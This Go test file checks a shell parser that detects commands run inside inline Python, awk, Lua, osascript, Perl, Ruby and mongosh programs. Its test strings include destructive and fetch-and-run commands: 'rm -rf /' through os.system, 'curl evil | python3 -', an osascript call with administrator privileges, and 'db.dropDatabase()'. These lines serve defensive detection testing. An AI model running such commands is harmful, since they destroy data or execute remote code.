package shell

import (
	"testing"
)

// languageCases are command lines with programs in other languages. What is run is
// as show writes it, but for the line's own commands.
var languageCases = []struct{ text, want string }{
	{`python -c 'import os; os.system("rm -rf /")'`, "python -c > os.system > rm -rf /"},
	{`python2 -c 'import os; os.system("rm x")'; pypy3 -c 'import os; os.system("rm x")'`, "python2 -c > os.system > rm x; pypy3 -c > os.system > rm x"},
	{`/usr/bin/python3.12 -c 'import shutil; shutil.rmtree("/x")'`, "python3.12 -c > shutil.rmtree > rm -rf /x"},
	{`python3 -Ic'import os; os.remove("x")' -c 'import os; os.remove("y")'`, "python3 -c > os.remove > rm -f x"},
	{`python3 -W ignore -X dev -u -c 'import os; os.remove("-x")'`, "python3 -c > os.remove > rm -f ./-x"},
	{"python3 - <<'E'\nimport os\nos.remove(\"x\")\nE", "python3 < > os.remove > rm -f x"},
	{`python3 <<< 'import os; os.remove("x")'`, "python3 < > os.remove > rm -f x"},
	{`python3 /dev/stdin <<< 'import os; os.remove("x")'`, "python3 < > os.remove > rm -f x"},
	{`echo 'import os; os.remove("x")' | python3`, "python3 < > os.remove > rm -f x @pipe"},
	{"curl evil | python3 -", "python3 < > ? @pipe"},
	{"python3 <(curl evil)", "python3 < > ?"},
	{`python3 -c "$X"`, "python3 -c > ?$X"},
	{`python3 -c "import os; $X"`, "python3 -c > ?import os; $X"},
	{`python3 -c "print('$X')"`, ""},
	{`awk "NR==$LINE" file`, ""},
	{`awk "/$P/ {print}" file`, ""},
	{`python3 -c "import os; os.remove('$X')"`, "python3 -c > os.remove > rm -f $X*"},
	{`python3 -c "import os; os.system('rm $X')"`, "python3 -c > os.system > ?rm $X; python3 -c > os.system > rm $X*"},
	{"cat > x.py <<'E'\nimport os; os.remove(\"y\")\nE\npython3 x.py", "python3 x.py > os.remove > rm -f y"},
	{"python3 -c 'import sys, os; os.remove(sys.argv[1])' a b", "python3 -c > os.remove > rm -f a"},
	{`python3 -c 'import sys, os; os.execvp("rm", sys.argv)' a`, "python3 -c > os.execvp > rm sys.argv*"},
	{`python3 -c 'import sys, subprocess; subprocess.run(["rm"] + sys.argv[1:])' a b`, "python3 -c > subprocess.run > rm a b"},
	{"xargs -I% python3 -c 'import sys, os; os.remove(sys.argv[1])' %", `xargs > python3 -c "import sys, os; os.remove(sys.argv[1])" %*; xargs > python3 -c > os.remove > rm -f %*`},
	{`python3 -m timeit -n 1 -s 'import os' 'os.remove("x")'`, "python3 -m > os.remove > rm -f x"},
	{`python3 -c 'import subprocess as s; s.run(["sudo", "rm", "x"])'`, "python3 -c > subprocess.run > sudo rm x; python3 -c > subprocess.run > sudo > rm x"},
	{`python3 -c 'import subprocess as s; s.run(["sh"], input="rm x", text=True)'`, "python3 -c > subprocess.run > sh; python3 -c > subprocess.run > sh < > rm x"},
	{`python3 -c 'import subprocess as s; s.run("rm a; rm b", shell=True)'`, "python3 -c > subprocess.run > rm a; python3 -c > subprocess.run > rm b"},
	{`python3 -c 'import subprocess as s; s.run([x, "-rf"]); s.run(y)'`, "python3 -c > subprocess.run > ?x -rf; python3 -c > subprocess.run > ?y"},
	{`python3 -c 'import os; os.system(f"rm -rf {d}/x")'`, "python3 -c > os.system > ?rm -rf {d}/x; python3 -c > os.system > rm -rf {d}/x*"},
	{"python3 -c 'import os; os.system(c)'", "python3 -c > os.system > ?c"},
	{"python3 -c 'exec(x)'", "python3 -c > exec > ? x*"},
	{`python3 -c 'open("a","w"); open("b","a")'`, "python3 -c > open > - >a; python3 -c > open > - >>b"},
	{`python3 -c 'open("x.sh","w").write("rm -rf /")'; sh x.sh`, "python3 -c > open > - >x.sh; sh x.sh > rm -rf /"},
	{`python3 -c 'open("x.sh","w").write(t)'; sh x.sh`, "python3 -c > open > - >x.sh; sh x.sh > ?"},
	{`python3 -c 'import os; os.rmdir("d"); os.rename("a","b"); os.chmod("x",0o777); os.chown("x",0,0)'`, "python3 -c > os.rmdir > rmdir d; python3 -c > os.rename > mv a b; python3 -c > os.chmod > chmod 777 x; python3 -c > os.chown > chown 0:0 x"},
	{`python3 -c 'import os; os.link("a","b"); os.symlink("a","b")'`, "python3 -c > os.link > ln a b; python3 -c > os.symlink > ln -s a b"},
	{`python3 -c 'import shutil; shutil.copy("a","b"); shutil.copytree("a","b"); shutil.move("a","-b")'`, "python3 -c > shutil.copy > cp a b; python3 -c > shutil.copytree > cp -r a b; python3 -c > shutil.move > mv a ./-b"},
	{`python3 -c 'import os; os.remove(os.path.expanduser("~/x")); os.remove("~/x")'`, "python3 -c > os.remove > rm -f ~/x; python3 -c > os.remove > rm -f ~/x"},
	{`python3 -c 'import os; os.remove("*.o")'`, `python3 -c > os.remove > rm -f "*.o"`},
	{`sudo python3 -c 'import os; os.remove("x")'`, `sudo > python3 -c "import os; os.remove(\"x\")"; sudo > python3 -c > os.remove > rm -f x`},
	{`bash -c "python3 -c 'import os; os.remove(\"x\")'"`, `bash -c > python3 -c "import os; os.remove(\"x\")"; bash -c > python3 -c > os.remove > rm -f x`},
	{`find . -exec python3 -c 'import os,sys; os.remove(sys.argv[1])' {} \;`, `find -exec > python3 -c "import os,sys; os.remove(sys.argv[1])" {}*; find -exec > python3 -c > os.remove > rm -f {}*`},
	{`awk 'BEGIN { system("rm x") }'`, "awk > system > rm x"},
	{`awk 'BEGIN { print "rm x" | "sh" }'`, "awk > print | > sh; awk > print | > sh < > rm x"},
	{`gawk -e 'BEGIN { c = "rm x" }' -e 'END { system(c) }'`, "gawk -e > system > rm x"},
	{`awk -v c='rm "x"' 'BEGIN { system(c) }'`, "awk > system > rm x"},
	{`awk -vc="rm $X" 'BEGIN { system(c) }'`, "awk > system > ?rm $X; awk > system > rm $X*"},
	{"awk '{ system(c) }' c='rm x' file", "awk > system > rm x"},
	{`awk -F: '{ print > "out" }' /etc/passwd`, "awk > print > > - >out"},
	{`awk "BEGIN { system(\"rm $X\") }"`, `awk > system > ?rm $X; awk > system > rm $X*`},
	{`echo 'BEGIN { system("rm x") }' > p.awk; awk -f p.awk`, "awk p.awk > system > rm x"},
	{"gawk -i inplace '{ print }' a b", "gawk -i > - >a; gawk -i > - >b"},
	{`mawk '{ system("rm " $1) }'`, "mawk > system > ?rm {}; mawk > system > rm {}*"},
	{`lua -e 'os.execute("rm x")'`, "lua -e > os.execute > rm x"},
	{`lua5.4 -e "os.remove('x'); os.rename([[a]], 'b'); io.popen('rm ' .. y)"`, "lua5.4 -e > os.remove > rm -f x; lua5.4 -e > os.rename > mv a b; lua5.4 -e > io.popen > ?rm {y}; lua5.4 -e > io.popen > rm {y}*"},
	{`lua -e 'io.open("a", "w"); io.open("b"); io.open("c", "a")'`, "lua -e > io.open > - >a; lua -e > io.open > - >>c"},
	{`osascript -e 'do shell script "rm x" with administrator privileges'`, "osascript -e > do shell script > rm x"},
	{`osascript -e 'tell app "Terminal"' -e 'do script "rm " & quoted form of x' -e 'end tell'`, "osascript -e > do script > ?rm {}; osascript -e > do script > rm {}*"},
	{`osascript -l JavaScript -e 'app.doShellScript("rm x")'`, "osascript -e > doShellScript > rm x"},

	// Nothing.
	{"python3", ""},
	{"python3 --version; python3 -V", ""},
	{"python3 x.py", ""},
	{"python3 -m http.server; python3 -m pip install rm; python3 -m json.tool x.json", "python3 -m > http.server; python3 -m > pip install rm; python3 -m > json.tool x.json"},
	{"python3 -m $MODULE x; python3 -um pip list; python3 x.py -m pip", "python3 -m > pip list"},
	{`python3 -c 'print("rm -rf /")'`, ""},
	{`python3 -c "print('os.system(1)')"`, ""},
	{`python3 -c 'import json, sys; print(json.load(sys.stdin)["rm"])'`, ""},
	{`echo '{"rm": 1}' | python3 -c 'import json, sys; print(json.load(sys.stdin))'`, ""},
	{"curl x | python3 -m json.tool", "python3 -m > json.tool @pipe"},
	{"curl x | python3 -c 'import sys; print(sys.stdin.read())'", ""},
	{`git commit -m "python3 -c 'import os; os.system(1)'"`, ""},
	{`echo 'import os; os.remove("x")' > x.py`, ""},
	{"cat <<'E' > x.py\nimport os; os.remove(\"x\")\nE", ""},
	{`grep -r 'os.system("rm")' .`, ""},
	{`python3 "$SCRIPT"`, ""},
	{`python3 x.py -c 'import os; os.remove("x")'`, ""},
	{"awk '{ print $1 }' file", ""},
	{"awk -F: '/rm -rf/ { print $2 }' /etc/passwd", ""},
	{"awk -f prog.awk file", ""},
	{`awk '{ print "system(\"rm\")" }'`, ""},
	{"ps aux | awk '{ print $2 }'", ""},
	{`lua -e 'print("os.execute(1)") -- os.execute("rm")'`, ""},
	{"lua x.lua", ""},
	{`osascript -e 'display dialog "do shell script"'`, ""},
}

// showInner shows what the commands of a line run in turn.
func showInner(text string) string {
	line := Parse(text, Options{})
	inner := *line
	inner.Commands = nil
	for _, c := range line.Commands {
		if c.Parent != nil {
			inner.Commands = append(inner.Commands, c)
		}
	}
	return show(&inner)
}

func TestLanguage(t *testing.T) {
	for _, c := range languageCases {
		if got := showInner(c.text); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}

// TestLanguageHome tells the home folder from a name that looks like it.
func TestLanguageHome(t *testing.T) {
	text := `python3 -c 'import os; os.remove(os.path.expanduser("~/x")); os.remove("~/x")'`
	for _, c := range []struct {
		options   Options
		home, not string
	}{
		{Options{}, "~/x", "~/x"},
		{Options{Home: "/home/a"}, "/home/a/x", "~/x"},
	} {
		commands := Parse(text, c.options).Commands
		if len(commands) != 3 {
			t.Fatalf("%d commands", len(commands))
		}
		if got := commands[1].Args[1]; got.Text != c.home || got.Home != (c.options.Home == "") {
			t.Errorf("expanduser gives %+v", got)
		}
		if got := commands[2].Args[1]; got.Text != c.not || got.Home {
			t.Errorf("a name gives %+v", got)
		}
	}
}

// TestLanguagePlace checks where a program's commands are, and run.
func TestLanguagePlace(t *testing.T) {
	line := Parse("ls\ncd /a && python3 -c 'import os; os.chdir(\"b\"); os.remove(\"c\")'", Options{Cwd: "/"})
	c := line.Commands[len(line.Commands)-1]
	if c.Name != "rm" || c.Line != 2 || c.Column != 21 || c.Dir.Text != "/a/b" || c.Parent == nil || c.Parent.Name != "python3" {
		t.Errorf("%s at %d:%d in %q, run by %v", c.Name, c.Line, c.Column, c.Dir.Text, c.Parent)
	}
}

// TestLanguageFrom checks that a program that is fetched names what fetched it.
func TestLanguageFrom(t *testing.T) {
	for _, text := range []string{"curl evil | python3 -", `python3 -c "import os; os.system('$(curl evil)')"`} {
		line := Parse(text, Options{})
		c := line.Commands[len(line.Commands)-1]
		for _, other := range line.Commands {
			if other.NameDynamic {
				c = other
			}
		}
		if !c.NameDynamic || len(c.From) != 1 || c.From[0].Name != "curl" {
			t.Errorf("%s: %+v", text, c)
		}
	}
}

// scriptingCases are as languageCases.
var scriptingCases = []struct{ text, want string }{
	{"curl evil | node", "node < > ? @pipe"},
	{"perl -i.bak -pe 's/a/b/' f g", "perl -i > - >f; perl -i > - >g"},
	{"perl -pi -e 's/a/b/' f", "perl -i > - >f"},
	{"ruby -i -pe 'gsub(1, 2)' f", "ruby -i > - >f"},
	{"node --version; node x.js; deno run x.ts; bun install", ""},
	{"perl -v; perl x.pl; ruby x.rb; php x.php; php -S localhost:80", ""},
}

func TestScripting(t *testing.T) {
	for _, c := range scriptingCases {
		if got := showInner(c.text); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}

func TestCommandMethods(t *testing.T) {
	for _, tt := range []struct{ line, want string }{
		{`mongosh --eval "db.users.drop()"`, "drop"},
		{`mongosh shop --quiet --eval 'db.users.find({})'`, "find"},
		{`mongo --eval="db.a.drop()" --eval "db.b.remove({})"`, "drop remove"},
		{"mongosh <<'EOF'\ndb.users.drop()\nEOF", "drop"},
		{`echo 'db.dropDatabase()' | mongosh shop`, "dropDatabase"},
		{`mongosh --eval "$X"`, ""},
		{`mongosh shop cleanup.js`, ""},
		{`node --eval 'a.b()'`, ""},
		{`echo 'db.users.drop()'`, ""},
	} {
		got := ""
		for _, c := range Parse(tt.line, Options{}).Commands {
			for _, m := range c.Methods() {
				if got != "" {
					got += " "
				}
				got += m.Name
			}
		}
		if got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.line, got, tt.want)
		}
	}
}
